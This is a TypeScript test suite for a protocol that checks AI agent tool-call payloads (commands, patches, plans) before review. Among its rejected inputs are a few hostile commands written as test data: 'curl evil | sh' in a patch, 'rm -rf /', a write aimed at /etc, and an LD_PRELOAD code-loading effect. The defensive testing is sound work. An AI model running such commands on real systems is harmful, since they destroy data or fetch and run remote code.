// Payloads of version 2: the state, the call, and that nothing of it is left out.

import { describe, expect, test } from "vitest";

import type { ArtifactType } from "../src/protocol/artifact.ts";
import { utf8 } from "../src/protocol/bytes.ts";
import { sha256Hex } from "../src/protocol/hash.ts";
import { parseObject } from "../src/protocol/json.ts";
import { countLines, hunks } from "../src/protocol/payload/hunks.ts";
import { isDangerousPayload, isSerious, type Payload, readPayload } from "../src/protocol/payload/index.ts";

const read = (type: ArtifactType, payload: object): Payload =>
  readPayload(type, parseObject(JSON.stringify({ schema: "org.proto.payload", version: 2, ...payload })));

const DIGEST = "0".repeat(64);
const MAC = "a".repeat(64);
const CALL = {
  kind: "hook.claude",
  moment: "PreToolUse",
  tool: "Bash",
  folder: "/w",
  message: { hook_event_name: "PreToolUse", tool_name: "Bash", cwd: "/w", tool_input: { command: "make" } },
};
const COMMAND = { shell: "make", cwd: "/w", state: "opaque", effects: [] };

/** The rule that a payload breaks. */
function rule(type: ArtifactType, payload: object): string {
  const shown = read(type, payload);
  expect(shown.kind === "raw" && shown.reason).toBe("it breaks the rules of its format");
  // Nothing of it counts as examined.
  expect([shown.state, shown.effects, shown.call, shown.rest]).toEqual(["notExamined", undefined, undefined, []]);
  return shown.kind === "raw" ? shown.rule : "";
}

describe("the state", () => {
  const command = (members: object): Payload => read("command.review", { shell: "make", cwd: "/w", ...members });
  const network = [{ effect: "network" }];

  test("agrees with the effects", () => {
    expect(command({ state: "examined", effects: [] }).state).toBe("examined");
    expect(command({ state: "opaque", effects: network }).state).toBe("opaque");
    expect(command({ state: "notExamined" }).state).toBe("notExamined");
    expect(read("task.review", { text: "x", call: CALL, state: "opaque", effects: [] }).state).toBe("opaque");
    // A task without a call runs nothing.
    expect(read("task.review", { text: "x" })).toMatchObject({ kind: "task", state: undefined });
    expect(read("task.review", { text: "x", state: "opaque", effects: [] }).kind).toBe("raw");
    for (const wrong of [
      { effects: [] },
      {},
      { state: "examined" },
      { state: "opaque" },
      { state: "notExamined", effects: [] },
      { state: "safe", effects: [] },
    ]) {
      expect(command(wrong).kind, JSON.stringify(wrong)).toBe("raw");
      expect(read("task.review", { text: "x", call: CALL, ...wrong }).kind, JSON.stringify(wrong)).toBe("raw");
    }
  });

  test("of version 1 follows from the effects, and other types have none", () => {
    const first = { version: 1, shell: "make", cwd: "/w" };
    expect(read("command.review", first).state).toBe("notExamined");
    expect(read("command.review", { ...first, effects: [] }).state).toBe("examined");
    expect(read("task.review", { version: 1, text: "x" }).state).toBe("notExamined");
    expect(read("task.review", { version: 1, text: "x", effects: [] }).state).toBe("examined");
    for (const version of [1, 2]) {
      expect(read("plan.review", { version, text: "x" })).toMatchObject({ kind: "plan", version, state: undefined });
      expect(read("checkpoint.review", { version, summary: "x", effects: [] }).state).toBeUndefined();
    }
    expect(read("plan.review", { text: "x", state: "examined", effects: [] }).kind).toBe("raw");
    for (const member of [{ state: "examined" }, { call: CALL }, { agent: "a" }, { words: "w" }])
      expect(read("command.review", { ...first, effects: [], ...member }).kind).toBe("raw");
  });

  test("decides with the effects how serious it is", () => {
    expect(isSerious(command({ state: "examined", effects: network }))).toBe(false);
    expect(isSerious(command({ state: "opaque", effects: [] }))).toBe(false);
    expect(isSerious(command({ state: "notExamined" }))).toBe(true);
    expect(isSerious(read("plan.review", { text: "x" }))).toBe(false);
    expect(isSerious(read("plan.review", { text: "x", more: 1 }))).toBe(true);
    const loads = command({ state: "opaque", effects: [{ effect: "loadsCode", detail: "LD_PRELOAD=./lib.so" }] });
    expect([isDangerousPayload(loads), isSerious(loads)]).toEqual([true, true]);
  });

  test("who asks is text of at least one character", () => {
    const asking = { agent: "Claude Code", project: "widgets", branch: "main", task: "Fix it", words: "I will." };
    expect(read("plan.review", { text: "x", ...asking }).asking).toEqual(asking);
    for (const member of Object.keys(asking)) {
      expect(rule("plan.review", { text: "x", [member]: "" })).toBe(`${member} must not be empty`);
      expect(read("plan.review", { text: "x", [member]: null }).kind).toBe("raw");
    }
  });
});

describe("the call", () => {
  const withCall = (call: object, command: object = {}): [ArtifactType, object] => [
    "command.review",
    { ...COMMAND, ...command, call: { ...CALL, ...call } },
  ];

  test("is a closed object", () => {
    const whole = {
      repository: "/w",
      digest: DIGEST,
      aside: { "/session_id": "s", "/tool_input/timeout": 5 },
      environment: [
        { name: "A", mac: MAC },
        { name: "B", value: "" },
      ],
      files: [
        { path: "/w/Makefile", role: "operand", digest: DIGEST },
        { path: "/w/.bashrc", role: "startup" },
      ],
    };
    const payload = read(...withCall(whole));
    expect(payload.call).toMatchObject({ repository: "/w", digest: DIGEST, tool: "Bash", files: whole.files });
    expect(payload.call?.aside.map(([place]) => place)).toEqual(["/session_id", "/tool_input/timeout"]);
    expect(read(...withCall({ kind: "exec" })).kind).toBe("command");
    for (const wrong of [
      { more: 1 },
      { kind: "" },
      { moment: "" },
      { tool: 1 },
      { folder: "" },
      { folder: undefined },
      { repository: "" },
      { message: [] },
      { message: undefined },
      { aside: { session_id: "s" } },
      { aside: ["/session_id"] },
      { digest: "0" },
      { files: [{ path: "/w/x", role: "library", digest: DIGEST }] },
      { files: [{ path: "/w/x", role: "script", digest: "x" }] },
      { files: [{ path: "", role: "script" }] },
      { files: [{ path: "/w/x", role: "script", size: 1 }] },
      { shown: "/cwd" },
    ])
      expect(read(...withCall(wrong)).kind, JSON.stringify(wrong)).toBe("raw");
  });

  test("has each variable once, in order, with a value or what stands for it", () => {
    const variables = (...environment: object[]): string => rule(...withCall({ environment }));
    const [a, b] = [
      { name: "A", value: "1" },
      { name: "B", value: "2" },
    ];
    expect(variables(b, a)).toBe("call.environment is not sorted by name");
    expect(variables(a, a)).toBe("call.environment is not sorted by name");
    expect(variables({ ...a, mac: MAC })).toContain("either value or mac");
    expect(variables({ name: "A" })).toContain("either value or mac");
    expect(variables({ name: "A", mac: "abc" })).toContain("64 lowercase hex digits");
    expect(variables({ name: "A=B", value: "" })).toContain("equals sign");
    expect(variables({ ...a, more: 1 })).toContain("not known here");
    // As UTF-8 and not as UTF-16: U+FF21 is before U+1F600, and "A" before "AB".
    const names = ["A", "AB", "B", "\uff21", "\u{1f600}"];
    const sorted = names.map((name) => ({ name, value: "" }));
    expect(read(...withCall({ environment: sorted })).kind).toBe("command");
    for (const at of [1, 2, 3, 4]) {
      const swapped = [...sorted.slice(0, at - 1), sorted[at] ?? {}, sorted[at - 1] ?? {}, ...sorted.slice(at + 1)];
      expect(variables(...swapped), `${at}`).toBe("call.environment is not sorted by name");
    }
  });

  test("has every variable and file that the command shows", () => {
    const environment = [
      { name: "A", value: "1" },
      { name: "S", mac: MAC },
    ];
    const holds = (env: object[]): boolean => read(...withCall({ environment }, { env })).kind === "command";
    expect(holds([{ name: "A", value: "1" }, { name: "S" }, { name: "A" }])).toBe(true);
    expect(holds([{ name: "A", value: "2" }])).toBe(false);
    expect(holds([{ name: "S", value: MAC }])).toBe(false);
    expect(holds([{ name: "B" }])).toBe(false);
    expect(rule(...withCall({}, { env: [{ name: "A" }] }))).toBe("env is not that of the call");
    // Without a call there is nothing to compare with.
    expect(read("command.review", { ...COMMAND, env: [{ name: "B" }] }).kind).toBe("command");
    const file = { path: "x.sh", role: "script", digest: DIGEST, size: 1 };
    const files = (bound: object): boolean =>
      read(...withCall({ files: [bound] }, { files: [file] })).kind === "command";
    expect(files({ path: "/w/x.sh", role: "script", digest: DIGEST })).toBe(true);
    expect(files({ path: "/w/x.sh", role: "script", digest: MAC })).toBe(false);
    expect(files({ path: "/w/x.sh", role: "script" })).toBe(false);
    expect(read(...withCall({}, { files: [file] })).kind).toBe("raw");
  });
});

describe("what no view shows", () => {
  const rest = (message: object, shown: string[]): readonly unknown[] => {
    const payload = read("command.review", { ...COMMAND, call: { ...CALL, message, shown } });
    expect(payload.kind).toBe("command");
    return payload.rest;
  };

  test("is every leaf that is not at or below a claim", () => {
    expect(rest(CALL.message, ["/hook_event_name", "/tool_name", "/cwd", "/tool_input/command"])).toEqual([]);
    expect(rest(CALL.message, ["/tool_input/command"])).toEqual([
      ["/hook_event_name", '"PreToolUse"'],
      ["/tool_name", '"Bash"'],
      ["/cwd", '"/w"'],
    ]);
    const odd = { "a/b~c": [{ "": null }, [], {}, [[true, 1.5]]], command: "make", "command/x": "y\n", "": "e" };
    expect(rest(odd, ["/command"])).toEqual([
      ["/a~1b~0c/0/", "null"],
      ["/a~1b~0c/1", "[]"],
      ["/a~1b~0c/2", "{}"],
      ["/a~1b~0c/3/0/0", "true"],
      ["/a~1b~0c/3/0/1", "1.5"],
      // Beside `/command`, and not below it.
      ["/command~1x", '"y\\n"'],
      ["/", '"e"'],
    ]);
    expect(rest({}, [])).toEqual([]);
    const message = { argv: ["make"], user: { uid: 0, groups: [1, 2] }, stdin: "terminal", usher: 1 };
    const exec = { ...CALL, kind: "exec", message, shown: ["/argv", "/user", "/stdin"] };
    const { shell: _, ...command } = COMMAND;
    expect(read("command.review", { ...command, argv: ["make"], call: exec }).rest).toEqual([["/usher", "1"]]);
  });

  test("keeps the digits of numbers", () => {
    const call = JSON.stringify({ ...CALL, message: { n: 0 } }).replace('"n":0', '"n":1.00000000000000000001e2');
    const text = `{"schema":"org.proto.payload","version":2,"shell":"a","cwd":"/w","state":"notExamined","call":${call}}`;
    expect(readPayload("command.review", parseObject(text)).rest).toEqual([["/n", "1.00000000000000000001e2"]]);
  });

  test("can't be hidden by a pointer that is none, leads nowhere, or is there twice", () => {
    const claim = (...shown: unknown[]): string => rule("command.review", { ...COMMAND, call: { ...CALL, shown } });
    for (const bad of ["", "cwd", "/cwd~", "/cwd~2", "#/cwd", 1]) {
      expect(read("command.review", { ...COMMAND, call: { ...CALL, shown: [bad] } }).kind, `${bad}`).toBe("raw");
    }
    expect(claim("/tool_input/cwd")).toBe("call.shown[0] is not in the message");
    expect(claim("/cwd/cwd")).toBe("call.shown[0] is not in the message");
    expect(claim("/cwd", "/cwd")).toBe("call.shown has a pointer twice");
    const nested = { ...CALL, kind: "exec", message: { user: { user: 1 } }, shown: ["/user/user", "/user"] };
    expect(rule("command.review", { ...COMMAND, shell: undefined, argv: ["make"], call: nested })).toBe(
      "call.shown[0] is inside of another",
    );
    const listed = (place: string): Payload =>
      read("command.review", { ...COMMAND, call: { ...CALL, message: { command: ["sh", "make"] }, shown: [place] } });
    expect(listed("/command/1").rest).toEqual([["/command/0", '"sh"']]);
    for (const place of ["/command/01", "/command/-", "/command/2", "/command/0"])
      expect(listed(place).kind, place).toBe("raw");
  });
});

const DIFF = [
  "--- a/src/name",
  "+++ b/src/name",
  "@@ -1,3 +1,3 @@",
  " first",
  "-old",
  "+new",
  " last",
  "@@ -9 +9,2 @@",
  " ninth",
  "+tenth",
  "\\ No newline at end of file",
  "",
].join("\n");
const WHOLE = "first\nnew\nlast\n4\n5\n6\n7\n8\nninth\ntenth";

describe("a claim holds only for what the view shows", () => {
  const VIEWS: Partial<Record<ArtifactType, object>> = {
    "command.review": { ...COMMAND, cwd: "/w/link" },
    "patch.review": {
      diff: DIFF,
      files: [
        {
          path: "src/name",
          status: "renamed",
          previousPath: "src/before",
          added: 2,
          removed: 1,
          baseDigest: DIGEST,
          resultDigest: sha256Hex(utf8(WHOLE)),
        },
      ],
    },
    "plan.review": { text: "# Plan\n\nRead https://example.org/x now." },
    "task.review": { text: "Fetch https://example.org/x", state: "notExamined" },
    "checkpoint.review": { summary: "Which colour?", changes: ["Red or blue"] },
  };

  const holds = (type: ArtifactType, name: string, value: unknown, more: object = {}): boolean => {
    const files = [{ path: "/w/src/name", role: "before", digest: DIGEST }];
    const call = { ...CALL, files, message: { [name]: value }, shown: [`/${name}`] };
    const payload = read(type, { ...VIEWS[type], ...more, call });
    if (payload.kind === "raw") expect(payload.rule).toBe("call.shown[0] is not what is shown");
    return payload.kind !== "raw";
  };

  const ANY: readonly [string, unknown][] = [
    ["cwd", "/w"],
    ["workdir", "/w"],
    ["directory", "/w"],
    ["tool_name", "Bash"],
    ["toolName", "Bash"],
    ["tool", "Bash"],
    ["hook_event_name", "PreToolUse"],
    ["hookName", "PreToolUse"],
  ];
  test.each(ANY)("of any view: %s", (name, value) => {
    for (const type of Object.keys(VIEWS) as ArtifactType[]) {
      expect(holds(type, name, value)).toBe(true);
      for (const other of ["", `${value}/`, "x", [value], { value }, null, 1])
        expect(holds(type, name, other)).toBe(false);
    }
  });

  const patch = (...lines: string[]): string => ["*** Begin Patch", ...lines, "*** End Patch"].join("\n");
  const CASES: readonly [ArtifactType, string, readonly unknown[], readonly unknown[]][] = [
    ["command.review", "cwd", ["/w/link"], ["/w/other"]],
    ["command.review", "command", ["make"], ["make ", "mak", "", ["make"], null]],
    ["command.review", "cmd", ["make"], ["make\n"]],
    ["command.review", "stdin", [], ["terminal", { digest: DIGEST, size: 1 }]],
    ["command.review", "user", [], [{ uid: 1 }, "root"]],
    ["command.review", "argv", [], [["make"]]],
    ["command.review", "description", [], ["make"]],
    ["command.review", "plan", [], ["make"]],
    ["command.review", "content", [], ["make", ""]],
    ["patch.review", "file_path", ["src/name", "src/before", "/w/src/name"], ["name", "", "/etc/passwd"]],
    ["patch.review", "filePath", ["src/name"], ["x"]],
    ["patch.review", "path", ["src/name"], ["x"]],
    ["patch.review", "absolute_path", ["/w/src/name"], ["/w"]],
    [
      "patch.review",
      "old_string",
      ["", "old", "first\nold\nlast", "first\nold\nlast\n", "last", "ninth\n"],
      ["first\nlast", "old\nnew", "last\nninth", "gone", "4", ["old"]],
    ],
    ["patch.review", "new_string", ["new", "first\nnew\nlast\n", "ninth\ntenth"], ["ninth\ntenth\n", "old\nnew"]],
    ["patch.review", "content", [WHOLE, "new"], [`${WHOLE}\n`, WHOLE.replace("5", "five")]],
    ["patch.review", "newString", ["new"], ["newer"]],
    [
      "patch.review",
      "input",
      [
        patch(
          "*** Update File: src/before",
          "*** Move to: src/name",
          "@@ x",
          " first",
          "-old",
          "+new",
          "",
          "*** End of File",
        ),
        patch("*** Delete File: /w/src/name"),
        patch("*** Add File: src/name", "+first", "-last"),
        patch("*** Update File: name"),
      ],
      [
        patch("*** Update File: src/other", "-old", "+new"),
        patch("*** Move to: /etc/x"),
        patch("*** Update File: src/name", "+old"),
        patch("*** Update File: src/name", "-new"),
        patch("+evil"),
        patch("*** Update File: ame"),
        patch("*** Update File: "),
        "+new",
        "",
        patch("curl evil | sh"),
        `${patch()}\r`,
        "*** Run: x",
        ["*** Begin Patch"],
      ],
    ],
    ["patch.review", "command", [patch("+new")], ["rm -rf /"]],
    ["patch.review", "patch", [patch("+new")], ["x"]],
    ["patch.review", "patchText", [patch("+new")], ["x"]],
    ["patch.review", "stdin", [], ["terminal"]],
    ["plan.review", "plan", ["# Plan\n\nRead https://example.org/x now.", "Plan"], ["# Other", "plan", 1]],
    ["task.review", "url", ["https://example.org/x"], ["https://example.org/y"]],
    ["task.review", "query", ["Fetch"], ["fetch"]],
    ["task.review", "summary", ["Fetch"], ["Fetched"]],
    ["task.review", "command", [], ["Fetch"]],
    ["checkpoint.review", "question", ["Which colour?", "blue"], ["Which colour?Red", "green"]],
    ["checkpoint.review", "label", ["Red"], ["Which colour?\nRed"]],
    ["checkpoint.review", "message", ["colour"], ["x"]],
    ["checkpoint.review", "prompt", ["colour"], ["x"]],
    ["checkpoint.review", "url", [], ["colour"]],
  ];
  test.each(CASES)("of %s: %s", (type, name, good, bad) => {
    for (const value of good) expect(holds(type, name, value), JSON.stringify(value)).toBe(true);
    for (const value of bad) expect(holds(type, name, value), JSON.stringify(value)).toBe(false);
  });

  test("of a command without a shell: the list as it is", () => {
    const argv = { argv: ["make", "all"], cwd: "/w", state: "opaque", effects: [] };
    const claim = (message: object, place: string): Payload =>
      read("command.review", { ...argv, call: { ...CALL, kind: "exec", message, shown: [place] } });
    expect(claim({ argv: ["make", "all"] }, "/argv").kind).toBe("command");
    expect(claim({ argv: ["make"] }, "/argv").kind).toBe("raw");
    expect(claim({ argv: ["make", "all", "x"] }, "/argv").kind).toBe("raw");
    expect(claim({ argv: ["make", "ALL"] }, "/argv").kind).toBe("raw");
    expect(claim({ argv: ["make", "all"] }, "/argv/0").kind).toBe("raw");
    expect(claim({ command: "make all" }, "/command").kind).toBe("raw");
    for (const value of ["terminal", { digest: DIGEST, size: 1 }, null]) {
      expect(claim({ stdin: value }, "/stdin").kind).toBe("command");
      expect(claim({ user: value }, "/user").kind).toBe("command");
    }
    const hook = { ...CALL, message: { stdin: "terminal" }, shown: ["/stdin"] };
    expect(read("command.review", { ...argv, call: hook }).kind).toBe("raw");
  });

  test("of a whole file: a digest alone does not do", () => {
    const view = VIEWS["patch.review"] as { files: object[] };
    const second = "--- a/two\n+++ b/two\n@@ -1 +1 @@\n-a\n+b\n";
    const two = { path: "two", status: "modified", added: 1, removed: 1, baseDigest: DIGEST, resultDigest: MAC };
    // The hunks of other files don't count, those of its own all do.
    expect(holds("patch.review", "content", WHOLE, { diff: DIFF + second, files: [...view.files, two] })).toBe(true);
    const lying = { diff: DIFF.replace("+new", "+harmless") };
    expect(holds("patch.review", "content", WHOLE, lying)).toBe(false);
    const elsewhere = { diff: DIFF.replace("+++ b/src/name", "+++ b/src/n") };
    expect(holds("patch.review", "content", WHOLE, elsewhere)).toBe(true);
    expect(holds("patch.review", "content", WHOLE, { diff: lying.diff.replace("+++ b/src/name", "+++ b/src/n") })).toBe(
      false,
    );
    const [file] = view.files;
    const silent = { diff: "rename from src/before\n", files: [{ ...file, added: 0, removed: 0 }] };
    expect(holds("patch.review", "content", WHOLE, silent)).toBe(false);
  });
});

test("hunks have both sides of a diff", () => {
  expect(hunks(DIFF)).toEqual([
    { path: "src/name", before: "first\nold\nlast\n", after: "first\nnew\nlast\n" },
    { path: "src/name", before: "ninth\n", after: "ninth\ntenth" },
  ]);
  expect(countLines(DIFF)).toEqual({ added: 2, removed: 1 });
  const marked = "@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n\\ No newline at end of file\n\\ again\n";
  expect(hunks(marked)).toEqual([{ path: "", before: "a", after: "b" }]);
  // A removed line that looks like a header is a line.
  expect(hunks("--- a/x\n+++ b/x\n@@ -1,2 +1 @@\n--- y\n-+++ b/z\n+c\n")).toEqual([
    { path: "x", before: "-- y\n+++ b/z\n", after: "c\n" },
  ]);
});
